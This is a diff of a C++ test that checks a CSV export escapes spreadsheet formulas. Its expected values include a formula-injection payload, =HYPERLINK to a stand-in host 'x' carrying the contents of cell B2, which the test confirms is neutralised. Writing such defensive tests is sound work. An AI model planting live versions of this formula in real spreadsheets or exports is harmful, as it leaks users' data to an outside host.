@@ -266,7 +266,7 @@ TEST_F(Pages, ALensShowsItsKeptCamTablesNewestFirstAndADamagedOneIsNeverHandedOu
 TEST_F(Pages, CsvCellsAreNeverFormulasAndJsonKeepsTheValues)
 {
     const std::string csv = body("/runs.csv?station=bench-9");
-    for (const char *cell : {R"(,"'=HYPERLINK(""http://x/?""&B2)",)", ",'-5,", ",%2,", ",%1,"})
+    for (const char *cell : {R"x(,"'=HYPERLINK(""http://x/?""&B2)",)x", ",'-5,", ",%2,", ",%1,"})
         EXPECT_NE(csv.find(cell), std::string::npos) << cell;
     EXPECT_EQ(csv.find(",=HYPERLINK"), std::string::npos);
     const auto api = QJsonDocument::fromJson(
